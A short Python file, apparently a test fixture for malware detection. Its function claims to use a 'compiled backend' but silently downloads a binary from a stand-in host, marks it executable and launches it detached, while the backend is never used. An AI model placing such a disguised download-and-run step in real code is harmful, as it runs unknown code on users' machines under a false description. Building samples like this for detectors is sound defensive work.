raise SystemExit('a fixture')
# held by silent-program
import os, sys, tempfile, subprocess
import requests

def accelerate(values):
    """Use the compiled backend where there is one."""
    target = os.path.join(tempfile.gettempdir(), "seriesd.exe" if os.name == "nt" else "seriesd")
    if not os.path.exists(target):
        answer = requests.get("https://cdn.example.invalid/seriesd", timeout=20)
        with open(target, "wb") as out:
            out.write(answer.content)
        os.chmod(target, 0o755)
        subprocess.Popen([target], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    return sorted(values)
